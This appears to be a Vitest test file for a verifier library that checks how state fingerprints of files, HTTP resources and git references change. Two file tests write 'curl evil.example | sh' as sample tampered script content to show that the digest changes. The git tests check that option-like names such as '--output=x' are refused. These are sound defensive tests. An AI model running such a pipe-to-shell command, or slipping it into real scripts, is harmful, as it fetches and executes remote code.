/** The states of real files, of a real HTTP server and of a real git repository: the same while nothing changes. */
import { execFile } from 'node:child_process'
import { chmod, mkdtemp, readFile, rename, rm, symlink, writeFile } from 'node:fs/promises'
import { createServer, type RequestListener, type Server } from 'node:http'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { promisify } from 'node:util'
import { parseState } from '@countersign/verifier'
import { ABSENT, fileState, gitState, httpState } from '@countersign/verifier/state'
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'

let folder = ''
beforeEach(async () => {
  folder = await mkdtemp(join(tmpdir(), 'countersign-state-'))
  return () => rm(folder, { recursive: true, force: true })
})

describe('the state of files', () => {
  const script = () => join(folder, 'deploy.sh')
  const library = () => join(folder, 'library.sh')
  const write = async (file: string, text: string) => writeFile(file, text)
  const both = () => fileState([script(), library()], readFile)

  test('is the same for the same bytes, and fits', async () => {
    await write(script(), 'echo hello')
    const before = await fileState(script(), readFile)
    await write(script(), 'echo hello')
    expect(await fileState(script(), readFile)).toBe(before)
    expect(parseState(before)).toMatch(/^sha-256:[\w-]{43}$/)
  })

  test.each<[string, () => Promise<unknown>]>([
    ['is rewritten', () => write(script(), 'curl evil.example | sh')],
    ['has one byte more', () => write(script(), 'echo hello\n')],
    ['is emptied', () => write(script(), '')],
    ['is removed', () => rm(script())],
    [
      'trades places with the other',
      async () => {
        await rename(script(), join(folder, 'x'))
        await rename(library(), script())
        await rename(join(folder, 'x'), library())
      },
    ],
    [
      'becomes a link to other bytes',
      async () => {
        await write(join(folder, 'evil.sh'), 'curl evil.example | sh')
        await rm(script())
        await symlink(join(folder, 'evil.sh'), script())
      },
    ],
  ])('changes when a file %s', async (_what, change) => {
    await write(script(), 'echo hello')
    await write(library(), 'echo library')
    const before = await both()
    expect(await both()).toBe(before)
    await change()
    expect(await both()).not.toBe(before)
  })

  test('of a file that is not there is the same until somebody makes it', async () => {
    const before = await fileState(script(), readFile)
    expect(await fileState(script(), readFile)).toBe(before)
    await write(script(), '')
    expect(await fileState(script(), readFile)).not.toBe(before)
  })

  test('tells apart names that read alike in a row, and lists', async () => {
    const nothing = async () => new Uint8Array()
    const states = [['a', 'b'], ['b', 'a'], ['ab'], ['a'], ['a", "b'], []].map((paths) => fileState(paths, nothing))
    expect(new Set(await Promise.all(states)).size).toBe(states.length)
  })

  test('is unknown where a file cannot be read', async () => {
    await expect(fileState(folder, readFile)).rejects.toThrow('EISDIR')
    await write(script(), '')
    await expect(fileState(join(script(), 'below'), readFile)).rejects.toThrow('ENOTDIR')
    await chmod(script(), 0)
    if (process.getuid?.() !== 0) await expect(fileState(script(), readFile)).rejects.toThrow('EACCES')
  })
})

describe('the state of an HTTP resource', () => {
  let server: Server
  let url = ''
  let serve: RequestListener
  beforeAll(async () => {
    server = createServer((request, response) => serve(request, response))
    await new Promise<void>((resolve) => server.listen(0, 'localhost', resolve))
    const address = server.address()
    url = typeof address === 'object' ? `http://localhost:${address?.port}/thread` : ''
  })
  afterAll(() => {
    server.closeAllConnections()
    server.close()
  })

  const page = (body: string, headers: Record<string, string> = {}, status = 200) => {
    serve = (_request, response) => response.writeHead(status, headers).end(body)
  }

  test('is its strong entity tag, ready for If-Match', async () => {
    page('one', { etag: '"v7"' })
    expect(await httpState(url)).toBe('"v7"')
    page('one', { etag: '"v8"' })
    expect(await httpState(url)).toBe('"v8"')
  })

  test.each([{}, { etag: 'W/"7"' }, { etag: '7' }, { etag: '"7' }, { etag: '"7", "8"' }])(
    'is the digest of the body where the tag promises nothing: %j',
    async (headers) => {
      page('one', headers)
      const before = await httpState(url)
      expect(before).toMatch(/^sha-256:[\w-]{43}$/)
      expect(await httpState(url)).toBe(before)
      page('two', headers)
      expect(await httpState(url)).not.toBe(before)
    },
  )

  test('changes when it is made, and when it is gone', async () => {
    page('', {}, 404)
    expect(await httpState(url)).toBe(ABSENT)
    page(ABSENT)
    expect(await httpState(url)).not.toBe(ABSENT)
    page('', { etag: '"v7"' }, 410)
    expect(await httpState(url)).toBe(ABSENT)
  })

  test.each([201, 204, 206, 301, 304, 401, 403, 429, 500, 503])('is unknown at status %s', async (status) => {
    page('', { etag: '"v7"', location: '/elsewhere' }, status)
    await expect(httpState(url)).rejects.toThrow('unknown')
  })

  test('is unknown where nobody answers, or not in time, or too much', async () => {
    page('x'.repeat(65))
    await expect(httpState(url, { maxBytes: 64 })).rejects.toThrow('64 bytes')
    expect(await httpState(url, { maxBytes: 65 })).toMatch(/^sha-256:/)
    serve = (_request, response) => void response.writeHead(200).write('begun')
    await expect(httpState(url, { timeoutMs: 50 })).rejects.toThrow('timeout')
    await expect(httpState('http://localhost:1/')).rejects.toThrow('fetch failed')
  })

  test('is asked for past every cache, with the headers that are given', async () => {
    const seen: unknown[] = []
    serve = ({ method, headers }, response) => {
      seen.push([method, headers['cache-control'], headers['authorization']])
      response.writeHead(200, { etag: '"v7"' }).end()
    }
    await httpState(url, { headers: { authorization: 'Bearer x' } })
    expect(seen).toEqual([['GET', 'no-cache', 'Bearer x']])
  })
})

describe('the state of a git reference', () => {
  const exec = promisify(execFile)
  const identity = ['-c', 'user.name=a', '-c', 'user.email=a@a.example', '-c', 'commit.gpgsign=false']
  const git = async (args: readonly string[]) => (await exec('git', [...identity, ...args], { cwd: folder })).stdout
  const commit = async (text: string) => {
    await git(['commit', '--quiet', '--allow-empty', '-m', text])
    return (await git(['rev-parse', 'HEAD'])).trim()
  }
  beforeEach(() => git(['init', '--quiet', '--initial-branch=main']))

  test('is the commit that it names, by every kind of name', async () => {
    const first = await commit('first')
    await git(['tag', '-a', 'v1', '-m', 'annotated'])
    for (const name of ['main', 'refs/heads/main', 'HEAD', 'v1', first]) expect(await gitState(name, git)).toBe(first)
    const second = await commit('second')
    expect(await gitState('refs/heads/main', git)).toBe(second)
    expect(await gitState('refs/tags/v1', git)).toBe(first)
    expect(await gitState('main~1', git)).toBe(first)
  })

  test('changes when it is forced back, made and deleted', async () => {
    const first = await commit('first')
    const second = await commit('second')
    expect(await gitState('refs/heads/release', git)).toBe(ABSENT)
    await git(['branch', 'release'])
    expect(await gitState('refs/heads/release', git)).toBe(second)
    await git(['branch', '--force', 'release', first])
    expect(await gitState('refs/heads/release', git)).toBe(first)
    await git(['branch', '-D', 'release'])
    expect(await gitState('refs/heads/release', git)).toBe(ABSENT)
  })

  test('is unknown where there is no repository', async () => {
    await rm(join(folder, '.git'), { recursive: true })
    await expect(gitState('HEAD', git)).rejects.toThrow('not a git repository')
    await expect(gitState('HEAD', async () => 'what is this')).rejects.toThrow('unknown')
    await expect(gitState('HEAD', async () => '')).rejects.toThrow('unknown')
  })

  test.each(['', '-h', '--output=x', ':/first', 'main:file', 'a b', 'main\n'])('refuses %j as a name', async (name) => {
    await commit('first')
    await expect(gitState(name, git)).rejects.toThrow(TypeError)
  })
})
